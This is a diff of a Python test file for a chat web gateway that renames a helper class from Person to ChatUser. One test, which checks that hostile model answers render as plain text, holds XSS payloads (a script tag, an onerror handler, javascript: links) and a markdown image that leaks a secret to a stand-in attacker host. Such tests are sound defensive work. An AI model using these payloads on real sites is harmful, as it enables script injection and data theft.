@@ -42,19 +42,19 @@ async def gateway(tmp_path: Path) -> AsyncIterator[Gateway]:
 
 @pytest.fixture
 async def any_database_gateway(either: Path) -> AsyncIterator[Gateway]:
-    """The same on SQLite, and then on PostgreSQL."""
+    """Gateway on SQLite, then on PostgreSQL."""
     async with running_gateway(either) as result:
         yield result
 
 
-class Person:
-    """A signed-in person at the chat page."""
+class ChatUser:
+    """A signed-in user of the chat page."""
 
     def __init__(self, gateway: Gateway, csrf: str) -> None:
         self.gateway, self.client, self.csrf = gateway, gateway.app.client, csrf
 
     @classmethod
-    async def of(cls, gateway: Gateway) -> Person:
+    async def of(cls, gateway: Gateway) -> ChatUser:
         return cls(gateway, await signed_in(gateway.app))
 
     async def ask(self, text: str, path: str = "/chat", *, files: Any = None, **fields: str) -> Any:
@@ -93,7 +93,7 @@ class Person:
 
 async def test_answer_is_streamed_stored_and_charged(any_database_gateway: Gateway) -> None:
     gateway = any_database_gateway
-    person = await Person.of(gateway)
+    person = await ChatUser.of(gateway)
     sent = await person.ask("say 3 words")
     where = sent.json()["location"]
     events = await person.events(where)
@@ -117,7 +117,7 @@ async def test_answer_is_streamed_stored_and_charged(any_database_gateway: Gatew
 
 
 async def test_form_without_script_waits_for_the_answer(gateway: Gateway) -> None:
-    person = await Person.of(gateway)
+    person = await ChatUser.of(gateway)
     form = {"csrf": person.csrf, "text": "say 3 words", "model": "acme/small"}
     answer = await person.client.post("/chat", data=form, files=[("file", ("", b"", "text/plain"))])
     assert answer.status_code == 303
@@ -130,7 +130,7 @@ async def test_form_without_script_waits_for_the_answer(gateway: Gateway) -> Non
 
 async def test_stop_ends_the_call_and_charges_what_was_delivered(any_database_gateway: Gateway) -> None:
     gateway = any_database_gateway
-    person = await Person.of(gateway)
+    person = await ChatUser.of(gateway)
     gateway.acme.mode = "trickle"
     where = (await person.ask("say 20 words")).json()["location"]
     reading = asyncio.create_task(person.events(where))
@@ -158,7 +158,7 @@ async def test_answer_of_a_removed_member_is_stopped(gateway: Gateway) -> None:
     app.client.cookies.clear()
     app.client.cookies.set(COOKIE, token)
     page = (await app.client.get("/chat")).text
-    person = Person(gateway, re.findall(r'name="csrf" value="([^"]+)"', page)[0])
+    person = ChatUser(gateway, re.findall(r'name="csrf" value="([^"]+)"', page)[0])
     gateway.acme.mode = "trickle"
     assert (await person.ask("say 20 words")).status_code == 202
     async with asyncio.timeout(30):
@@ -172,7 +172,7 @@ async def test_answer_of_a_removed_member_is_stopped(gateway: Gateway) -> None:
 
 
 async def test_failed_answer_costs_nothing_and_is_asked_again_in_place(gateway: Gateway) -> None:
-    person = await Person.of(gateway)
+    person = await ChatUser.of(gateway)
     gateway.acme.modes = ["fail"]
     where = await person.asked("say 3 words")
     page = await person.page(where)
@@ -187,7 +187,7 @@ async def test_failed_answer_costs_nothing_and_is_asked_again_in_place(gateway: 
 
 
 async def test_edit_makes_a_version_and_a_branch_a_chat(any_database_gateway: Gateway) -> None:
-    person = await Person.of(any_database_gateway)
+    person = await ChatUser.of(any_database_gateway)
     first = await person.asked("say 1 words")
     await person.asked("say 2 words", first)
     page = await person.page(first)
@@ -218,7 +218,7 @@ async def test_older_chats_follow_whatever_versions_there_are(
     any_database_gateway: Gateway, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(pages, "_CHATS", 2)
-    person = await Person.of(any_database_gateway)
+    person = await ChatUser.of(any_database_gateway)
     oldest = await person.asked("say 1 words")
     second = await person.asked("say 2 words")
     third = await person.asked("say 3 words")
@@ -234,7 +234,7 @@ async def test_edit_of_an_earlier_message_and_of_files(
     gateway: Gateway, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(thread_view, "MESSAGES", 2)
-    person = await Person.of(gateway)
+    person = await ChatUser.of(gateway)
     where = await person.asked("say 1 words")
     earliest = person.ids(await person.page(where), "question")[0]
     await person.asked("", where, files=[("file", ("red.png", _png(), "image/png"))])
@@ -247,7 +247,7 @@ async def test_edit_of_an_earlier_message_and_of_files(
 
 
 async def test_hostile_answer_is_only_text(gateway: Gateway) -> None:
-    person = await Person.of(gateway)
+    person = await ChatUser.of(gateway)
     gateway.acme.answer = (
         "<script>alert(1)</script> <img src=x onerror=alert(1)> [a](javascript:alert(1)) "
         "![steal](https://evil.example/?q=secret) $\\href{javascript:alert(1)}{x}$ [ok](https://ok.example)"
@@ -263,7 +263,7 @@ async def test_hostile_answer_is_only_text(gateway: Gateway) -> None:
 
 
 async def test_files_reach_the_model_and_their_account_only(gateway: Gateway) -> None:
-    person = await Person.of(gateway)
+    person = await ChatUser.of(gateway)
     files = [
         ("file", ("dot.png", _png(), "image/png")),
         ("file", ("notes.csv", b"a,b\n1,2\n", "text/csv")),
@@ -286,7 +286,7 @@ async def test_files_reach_the_model_and_their_account_only(gateway: Gateway) ->
 
 
 async def test_server_that_ends_keeps_what_was_answered(gateway: Gateway) -> None:
-    person = await Person.of(gateway)
+    person = await ChatUser.of(gateway)
     gateway.acme.mode = "trickle"
     where = (await person.ask("say 20 words")).json()["location"]
     async with asyncio.timeout(30):
@@ -302,7 +302,7 @@ async def test_server_that_ends_keeps_what_was_answered(gateway: Gateway) -> Non
 
 async def test_page_without_a_model_says_what_to_do(tmp_path: Path) -> None:
     async with running_gateway(tmp_path, upstreams={}, aliases={}, prices={}) as gateway:
-        person = await Person.of(gateway)
+        person = await ChatUser.of(gateway)
         page = await person.page("/chat")
         assert "No chat model is connected yet" in page
         assert '<form id="composer"' not in page
@@ -323,7 +323,7 @@ async def test_page_without_a_model_says_what_to_do(tmp_path: Path) -> None:
 
 
 async def test_memory_is_shown_to_the_model_and_cited(gateway: Gateway) -> None:
-    person = await Person.of(gateway)
+    person = await ChatUser.of(gateway)
     await put(gateway.app, "ships/zeppelin", "# Zeppelin\n\nThe zeppelin lifts with hydrogen.\n")
     gateway.acme.answer = "With hydrogen [1], not helium [7]. `a[1]`"
     where = await person.asked("@memory what lifts the zeppelin?")
@@ -342,7 +342,7 @@ async def test_memory_is_shown_to_the_model_and_cited(gateway: Gateway) -> None:
 
 async def test_draw_answers_with_an_image_and_its_receipt(tmp_path: Path) -> None:
     async with running_gateway(tmp_path, models=app_catalog.models_document()) as gateway:
-        person = await Person.of(gateway)
+        person = await ChatUser.of(gateway)
         where = await person.asked("draw a red fox")
         page = await person.page(where)
         result = re.search(r'<img src="(/media/[^"]+)" alt="a red fox"', page)
@@ -356,7 +356,7 @@ async def test_draw_answers_with_an_image_and_its_receipt(tmp_path: Path) -> Non
 
 
 async def test_files_are_limited_in_number_and_size(gateway: Gateway) -> None:
-    person = await Person.of(gateway)
+    person = await ChatUser.of(gateway)
     eleven = [("file", (f"{number}.txt", b"a", "text/plain")) for number in range(11)]
     many_files = await person.ask("hello", files=eleven)
     assert (many_files.status_code, many_files.json()["error"]) == (
